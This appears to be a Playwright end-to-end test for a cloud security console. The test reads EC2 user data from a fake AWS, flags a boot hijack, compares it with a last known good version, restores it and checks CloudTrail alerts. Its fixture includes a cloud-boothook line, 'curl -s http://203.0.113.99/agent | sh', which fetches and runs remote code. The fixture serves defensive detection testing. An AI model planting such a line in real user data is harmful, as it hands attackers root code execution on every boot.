// Reading the present user data from AWS: set up in the browser, refused once, read, judged, compared with the last known good and
// restored; and the rules on such reads, silent for ours and not for anybody else's. AWS is one of our own on loopback.
import { createHash } from 'node:crypto';
import { expect, test } from '@playwright/test';
import { FakeEc2, type FakeCall } from '@/scripts/fake-ec2';
import { makeRecord } from '@/scripts/test-records';
import { attackFile, VICTIM, writeFiles } from './log-files';
import { expectAccessible } from './support/accessible';
import { waitUntilAwake } from './support/awake';
import { createFirstAccount, runWaymark, watchErrors } from './support/console';
import { startConsole } from './support/start-console';

test.use({ actionTimeout: 20_000 });

const ACCOUNT = '123456789012';
const ROLE = `arn:aws:iam::${ACCOUNT}:role/waymark-read`;
const SESSION = `arn:aws:sts::${ACCOUNT}:assumed-role/waymark-read/waymark-Robin-Doe`;
const OWN = `arn:aws:sts::${ACCOUNT}:assumed-role/Analyst/robin`;
const OTHER = `arn:aws:iam::${ACCOUNT}:user/mallory`;
const RULE = 'elastic-ec2-userdata-retrieval';
const GOOD = '#!/bin/sh\nsystemctl enable --now batch\n';
const HOSTILE = `#cloud-boothook\n#!/bin/sh\ncurl -s http://203.0.113.99/agent | sh\n${GOOD}`;
const OURS = '0aaa0000-0000-4000-8000-00000000f001';
const THEIRS = '0aaa0000-0000-4000-8000-00000000f002';
const BY_HAND = '0aaa0000-0000-4000-8000-00000000f003';

test('a redacted alert, the value read from AWS, the verdict, the last good version and the way back', async ({
  browser,
}, info) => {
  test.setTimeout(420_000);
  const fake = await FakeEc2.start();
  fake.principals.set('AKIASERVEREXAMPLE', {
    accountId: '210987654321',
    arn: 'arn:aws:iam::210987654321:user/waymark-server',
    secretAccessKey: 'SERVERSECRETEXAMPLE',
  });
  fake.principals.set('ASIAPASTEDEXAMPLE', {
    accountId: ACCOUNT,
    arn: OWN,
    secretAccessKey: 'PASTEDSECRETEXAMPLE',
    sessionToken: 'PASTEDTOKENEXAMPLE',
  });
  fake.roles.set(ROLE, { externalId: 'larkfield' });
  fake.instances.set(`${ACCOUNT}/eu-west-1/${VICTIM}`, Buffer.from(HOSTILE));
  // A profile, as people have them: the SDK finds it in files.
  const [profile = ''] = await writeFiles(info.outputPath('aws'), {
    credentials:
      '[larkfield]\naws_access_key_id = AKIASERVEREXAMPLE\naws_secret_access_key = SERVERSECRETEXAMPLE\n',
  });
  const started = await startConsole([], {
    ...fake.env(),
    AWS_PROFILE: 'larkfield',
    AWS_SHARED_CREDENTIALS_FILE: profile,
  });
  try {
    const storageState = await createFirstAccount(browser, started.setupUrl);
    const context = await browser.newContext({ baseURL: started.url, storageState });
    const page = waitUntilAwake(await context.newPage());
    const errors = watchErrors(page);
    const run = (...args: string[]) => runWaymark(started.env, args);
    await run('ingest', ...(await writeFiles(info.outputPath('logs'), attackFile())), '--json');
    await run('detect', '--json');
    const address = await findAlert(run);

    await test.step('the alert says that reading is off and leads an administrator to the settings', async () => {
      await page.goto(address);
      await expect(page.getByText('<sensitiveDataRemoved>').first()).toBeVisible();
      await expect(page.getByRole('button', { name: 'Fetch now' })).toHaveCount(0);
      await page.getByRole('link', { name: 'Set up access to AWS' }).click();
      await expect(page).toHaveURL(/\/settings\/aws$/);
      expect(fake.calls).toEqual([]);
    });

    await test.step('the access is tested with one call, a mistake is named, and the settings are saved', async () => {
      await expectAccessible(page);
      await page.getByRole('button', { name: 'Test' }).click();
      await expect(page.getByText('the profile “larkfield” of the server')).toBeVisible();
      await expect(page.getByText('arn:aws:iam::210987654321:user/waymark-server')).toBeVisible();
      expect(fake.calls.map(({ action }) => action)).toEqual(['GetCallerIdentity']);
      await page.getByLabel('Let people read user data from AWS').check();
      await page.getByLabel('Regions that may be called').fill('eu-west-1.evil.example');
      await page.getByLabel('Role to assume').fill('arn:aws:iam::{account}:role/waymark-read');
      await page.getByLabel('External id').fill('larkfield');
      // Far longer than a click takes on a busy machine.
      await page.getByLabel('Time limit in seconds').fill('60');
      await page.getByRole('button', { name: 'Save' }).click();
      await expect(page.getByText('A region looks like eu-west-1.')).toBeVisible();
      await expect(page.getByLabel('Regions that may be called')).toBeFocused();
      await page.getByLabel('Regions that may be called').fill('eu-west-1');
      await page.getByRole('link', { name: 'Alerts' }).first().click();
      await expect(page.getByRole('dialog', { name: 'Leave without saving?' })).toBeVisible();
      await page.getByRole('button', { name: 'Stay' }).click();
      await page.getByRole('button', { name: 'Save' }).click();
      await expect(page.getByText('reading is on')).toBeVisible();
    });

    await test.step('nothing is read until it is confirmed, and closing the question reads nothing', async () => {
      await page.goto(address);
      const before = fake.calls.length;
      await page.getByRole('button', { name: 'Fetch now' }).click();
      const dialog = page.getByRole('dialog', { name: 'Read the user data from AWS now?' });
      for (const words of [ROLE, 'waymark-Robin-Doe', VICTIM, 'eu-west-1', ACCOUNT])
        await expect(dialog).toContainText(words);
      await expectAccessible(page);
      await page.keyboard.press('Escape');
      await expect(dialog).toHaveCount(0);
      await expect(page.getByRole('button', { name: 'Fetch now' })).toBeFocused();
      expect(fake.calls).toHaveLength(before);
    });

    await test.step('a read that is stopped goes no further, on the server too', async () => {
      const before = fake.calls.length;
      let answer = (): void => undefined;
      const answering = new Promise<void>((resolve) => (answer = resolve));
      fake.beforeAnswer = () => answering;
      await page.getByRole('button', { name: 'Fetch now' }).click();
      await page.getByRole('button', { name: 'Read it now' }).click();
      await expect(page.getByText('Asking AWS, for at most 60 s…')).toBeVisible();
      await expect.poll(() => fake.calls.length).toBe(before + 1);
      await page.getByRole('button', { name: 'Stop' }).click();
      await expect(page.getByRole('dialog').getByRole('alert')).toContainText('Stopped.');
      // Whatever would come after the answer has time to come.
      answer();
      fake.beforeAnswer = () => undefined;
      await page.waitForTimeout(2000);
      expect(fake.calls.slice(before).map(({ action }) => action)).toEqual(['AssumeRole']);
      await page.keyboard.press('Escape');
    });

    await test.step('what AWS refuses is said in words, in place', async () => {
      fake.fail('DescribeInstanceAttribute', {
        code: 'UnauthorizedOperation',
        message: `You are not authorized to perform this operation. User: ${SESSION} is not authorized to perform: ec2:DescribeInstanceAttribute <b>here</b>. Encoded authorization failure message: ${'aB3'.repeat(100)}`,
        status: 403,
      });
      await page.getByRole('button', { name: 'Fetch now' }).click();
      await page.getByRole('button', { name: 'Read it now' }).click();
      const alert = page.getByRole('dialog').getByRole('alert');
      await expect(alert).toContainText('the permission ec2:DescribeInstanceAttribute is missing');
      await expect(alert).toContainText('<b>here</b>');
      await expect(alert).not.toContainText('Encoded');
      await expectAccessible(page);
    });

    await test.step('the second try reads the value: it runs at every boot as root', async () => {
      await page.getByRole('button', { name: 'Try again' }).click();
      await expect(page.getByText('Fetched from AWS and attached as evidence.')).toBeVisible();
      await expect(page.getByRole('dialog')).toHaveCount(0);
      await expect(page.getByText(/every boot/).first()).toBeVisible();
      await expect(page.getByText(/as root/).first()).toBeVisible();
      await expect(page.getByText(/fetched by Robin Doe/).first()).toBeVisible();
      await expect(page.locator('#activity')).toContainText(`fetched from ${VICTIM} user data`);
    });

    await test.step('a person may read as themselves, and what they paste is nowhere afterwards', async () => {
      await page.getByRole('button', { name: 'Fetch now' }).click();
      const dialog = page.getByRole('dialog');
      await dialog.getByLabel('My own, temporary').check();
      await expect(dialog).not.toContainText('sts:AssumeRole');
      await dialog.getByLabel('Access key id').fill('ASIAPASTEDEXAMPLE');
      await dialog.getByLabel('Secret access key').fill('PASTEDSECRETEXAMPLE');
      await dialog.getByLabel('Session token').fill('PASTEDTOKENEXAMPLE');
      await expectAccessible(page);
      await page.keyboard.press('Enter');
      await expect(page.getByText('The present value is what is attached already.')).toBeVisible();
      expect(fake.calls.at(-1)).toMatchObject({ principalArn: OWN, action: 'DescribeInstanceAttribute' });
      await page.reload();
      expect(await page.content()).not.toContain('PASTED');
    });

    await test.step('what was deployed before is attached, marked as good, and compared with', async () => {
      const paste = page.getByLabel('Paste what the command printed');
      await expect(async () => {
        if (!(await paste.isVisible()))
          await page.getByText('Attach another version').click({ timeout: 1000 });
        await expect(paste).toBeVisible({ timeout: 1000 });
      }).toPass();
      await paste.fill(Buffer.from(GOOD).toString('base64'));
      await page.getByRole('button', { name: 'Decode and attach' }).click();
      await expect(page.getByText('Attached as evidence.', { exact: true })).toBeVisible();
      await page.goto(`/instances/${ACCOUNT}/${VICTIM}`);
      await page.getByRole('button', { name: new RegExp(`^Mark ${shortHash(GOOD)}`) }).click();
      await page.getByLabel('Why it is good').fill('Release 42 of the repository.');
      await page.getByRole('button', { name: 'Mark', exact: true }).click();
      await expect(page.getByText('last known good', { exact: true }).first()).toBeVisible();
    });

    await test.step('the difference shows what was put in front of the good version', async () => {
      await page
        .getByRole('link', { name: new RegExp(`^Compare ${shortHash(HOSTILE)}`) })
        .first()
        .click();
      await expect(page).toHaveURL(/\/payloads\/[0-9a-f]{64}\/diff\/[0-9a-f]{64}/);
      await expect(page.getByText(/The old content is kept unchanged/)).toBeVisible();
      await expect(page.getByText(/curl -s/).first()).toBeVisible();
      await page.goto(`/instances/${ACCOUNT}/${VICTIM}`);
    });

    await test.step('the last good version is offered back as a command and a file', async () => {
      await page.getByRole('button', { name: `Restore ${shortHash(GOOD)}` }).click();
      const dialog = page.getByRole('dialog');
      await expect(dialog.getByText(/aws ec2 modify-instance-attribute/).first()).toBeVisible();
      await expect(dialog.getByRole('link', { name: /^Download/ })).toBeVisible();
      await page.keyboard.press('Escape');
    });

    await test.step('in CloudTrail, our own read raises nothing, and somebody else’s does', async () => {
      const reads = fake.calls.filter(({ action }) => action === 'DescribeInstanceAttribute');
      expect(reads.map(({ principalArn }) => principalArn)).toEqual([SESSION, SESSION, OWN]);
      const ours = reads[1];
      if (!ours) throw new Error('nothing was read');
      const records = [
        recordOf(ours, OURS, SESSION, ours.requestId),
        recordOf(ours, THEIRS, OTHER, 'req-of-mallory'),
        // Whoever takes over the role is seen: the request is none of ours.
        recordOf(ours, BY_HAND, SESSION, 'req-by-hand'),
      ];
      const files = { 'reads.json': JSON.stringify({ Records: records }) };
      await run('ingest', ...(await writeFiles(info.outputPath('reads'), files)), '--json');
      await run('detect', '--json');
      const raised = JSON.parse(await run('alerts', '--rule', RULE, '--json')) as { eventIds: string[] }[];
      const events = raised.flatMap(({ eventIds }) => eventIds);
      expect(events).toContain(THEIRS);
      expect(events).toContain(BY_HAND);
      expect(events).not.toContain(OURS);
      const stored = JSON.parse(
        await run('events', `eventID: "${OURS}"`, '--from', '2026-01-01', '--json'),
      ) as { total: number };
      expect(stored.total).toBe(1);
      await page.goto(`/instances/${ACCOUNT}/${VICTIM}`);
      await expect(page.getByText('our own read')).toHaveCount(1);
    });

    await test.step('the audit tells each read, and nothing tells a secret', async () => {
      await page.goto('/audit');
      await expect(page.getByText(/did not get the user data/).first()).toBeVisible();
      await expect(page.getByText(/read the user data/).first()).toBeVisible();
      expect(await page.content()).not.toMatch(/PASTED|SERVERSECRET/);
      expect(started.output()).not.toMatch(/PASTED|SERVERSECRET/);
    });
    expect(errors).toEqual([]);
  } finally {
    await started.stop();
    await fake.close();
  }
});

async function findAlert(run: (...args: string[]) => Promise<string>): Promise<string> {
  const alerts = JSON.parse(await run('alerts', '--rule', 'waymark-ec2-userdata-boot-hijack', '--json')) as {
    groupBy: Record<string, string>;
    url: string;
  }[];
  const found = alerts.find(({ groupBy }) => groupBy['instanceId'] === VICTIM);
  return new URL(found?.url ?? '').pathname;
}

/** The record that CloudTrail writes of a call. */
function recordOf(call: FakeCall, eventId: string, arn: string, requestID: string): Record<string, unknown> {
  const session = arn.includes(':assumed-role/');
  return makeRecord({
    at: new Date(Math.floor(call.at.getTime() / 1000) * 1000),
    eventName: 'DescribeInstanceAttribute',
    eventId,
    request: { attribute: 'userData', instanceId: VICTIM },
    userAgent: call.userAgent,
    extra: {
      requestID,
      readOnly: true,
      userIdentity: {
        type: session ? 'AssumedRole' : 'IAMUser',
        principalId: session ? 'AROAEXAMPLE:waymark-Robin-Doe' : 'AIDAEXAMPLEMALLORY',
        arn,
        accountId: ACCOUNT,
        accessKeyId: call.accessKeyId,
        ...(session
          ? {
              sessionContext: {
                sessionIssuer: { type: 'Role', arn: ROLE, accountId: ACCOUNT, userName: 'waymark-read' },
              },
            }
          : { userName: 'mallory' }),
      },
    },
  });
}

function shortHash(text: string): string {
  return createHash('sha256').update(text).digest('hex').slice(0, 12);
}
